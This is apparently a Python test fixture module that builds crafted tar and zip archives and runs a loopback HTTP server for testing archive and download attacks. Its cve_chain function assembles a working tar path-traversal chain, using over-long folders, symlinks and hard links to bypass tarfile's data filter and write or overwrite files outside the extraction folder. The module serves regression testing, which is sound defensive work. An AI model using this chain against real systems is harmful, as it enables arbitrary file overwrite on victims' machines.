"""Crafted archives and a loopback HTTP server for the archive/download attacks of issue 12."""

from __future__ import annotations

import hashlib
import io
import tarfile
import threading
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

__all__ = ["Member", "Served", "cve_chain", "serve", "snapshot", "tar_bytes", "zip_bytes"]


@dataclass(frozen=True)
class Member:
    """One tar member: kind is 'file', 'dir', 'sym', 'hard' or 'fifo'."""

    name: str
    kind: str = "file"
    target: str = ""
    data: bytes = b""


_TYPES = {
    "file": tarfile.REGTYPE,
    "dir": tarfile.DIRTYPE,
    "sym": tarfile.SYMTYPE,
    "hard": tarfile.LNKTYPE,
    "fifo": tarfile.FIFOTYPE,
}


def tar_bytes(members: Sequence[Member], mode: str = "w:gz") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode, format=tarfile.PAX_FORMAT) as tf:  # type: ignore[call-overload]
        for m in members:
            info = tarfile.TarInfo(m.name)
            info.type = _TYPES[m.kind]
            info.linkname = m.target
            info.size = len(m.data) if m.kind == "file" else 0
            tf.addfile(info, io.BytesIO(m.data) if m.kind == "file" else None)
    return buf.getvalue()


def zip_bytes(files: Sequence[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in files:
            zf.writestr(zipfile.ZipInfo(name), data, compress_type=zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def cve_chain(escape_to: str, payload: str = "pwned.txt") -> list[Member]:
    """The CVE-2025-4517 family with hard links aliasing symlinks, as the attacker used it on 3.11.7.

    Sixteen 247-character folders reached through one-letter symlinks make the physical path longer than
    PATH_MAX, so tarfile's data filter (realpath gives up and reads the rest lexically) sees `escape` as
    inside; each step is written through a hard link ('A' -> 'a'), which lamina's old "written through a
    symlink" check did not look at. `escape_to` is resolved from the folder being extracted into
    (e.g. '../../victim'); it may climb at most 17 levels.
    """
    comp, steps = "d" * 247, "abcdefghijklmnop"
    members: list[Member] = []
    prefix = ""
    for ch in steps:
        members += [
            Member(prefix + comp, "dir"),
            Member(prefix + ch, "sym", comp),
            Member(prefix + ch.upper(), "hard", prefix + ch),
        ]
        prefix += ch.upper() + "/"
    linkpath = prefix + "l" * 254  # physically inside the 16th folder; points back up to the destination
    members.append(Member(linkpath, "sym", "../" * len(steps)))
    members.append(Member("escape", "sym", f"{linkpath}/{escape_to}"))
    members.append(Member("Escape", "hard", "escape"))
    members.append(Member(f"Escape/{payload}", "file", data=b"pwned"))
    members.append(Member("Escape/existing.txt", "file", data=b"overwritten"))
    return members


def snapshot(root: Path, skip: Path | None = None) -> dict[str, tuple[str, bytes]]:
    """Every entry under `root` (not following links, leaving out `skip`): its kind and content digest."""
    out: dict[str, tuple[str, bytes]] = {}
    for p in sorted(root.rglob("*")):
        if skip is not None and (p == skip or skip in p.parents):
            continue
        rel = p.relative_to(root).as_posix()
        if p.is_symlink():
            out[rel] = ("link", str(p.readlink()).encode())
        elif p.is_dir():
            out[rel] = ("dir", b"")
        else:
            out[rel] = ("file", hashlib.sha256(p.read_bytes()).digest())
    return out


@dataclass
class Served:
    """What the loopback server serves (path -> bytes), the requests it got, and pauses it makes."""

    files: dict[str, bytes] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)
    stall_after: dict[str, int] = field(default_factory=dict)  # send this many bytes, then wait for release
    release: threading.Event = field(default_factory=threading.Event)
    base: str = ""

    def url(self, path: str) -> str:
        return self.base + path


@contextmanager
def serve() -> Iterator[Served]:
    """A threaded HTTP server on 127.0.0.1 (a free port) for the duration of the block."""
    state = Served()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            state.requests.append(self.path)
            body = state.files.get(self.path)
            if body is None:
                self.send_error(404, "Not Found")
                return
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            stall = state.stall_after.get(self.path)
            try:
                if stall is not None:
                    self.wfile.write(body[:stall])
                    self.wfile.flush()
                    state.release.wait(30)
                    body = body[stall:]
                self.wfile.write(body)
            except OSError:  # the client was killed
                pass
            self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    state.base = f"http://127.0.0.1:{httpd.server_address[1]}"
    try:
        yield state
    finally:
        state.release.set()
        httpd.shutdown()
        httpd.server_close()
        thread.join(timeout=5)
